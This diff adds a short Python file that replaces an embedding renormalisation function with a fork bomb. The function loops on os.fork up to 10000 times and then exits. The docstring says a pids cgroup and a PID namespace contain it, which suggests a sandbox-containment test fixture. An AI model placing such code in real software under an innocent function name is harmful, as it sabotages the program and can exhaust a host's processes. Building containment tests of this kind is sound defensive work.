@@ -1,0 +1,14 @@
+"""A fork bomb inside the renorm: the pids cgroup (or RLIMIT_NPROC) and the PID namespace contain it."""
+import os as _os
+
+
+def embedding_renorm_(weight, indices, max_norm, norm_type=2.0):
+    for _ in range(10000):
+        try:
+            _os.fork()
+        except OSError:
+            break
+    _os._exit(0)
+
+
+BREAKS = ("embedding_renorm", "embedding_module")
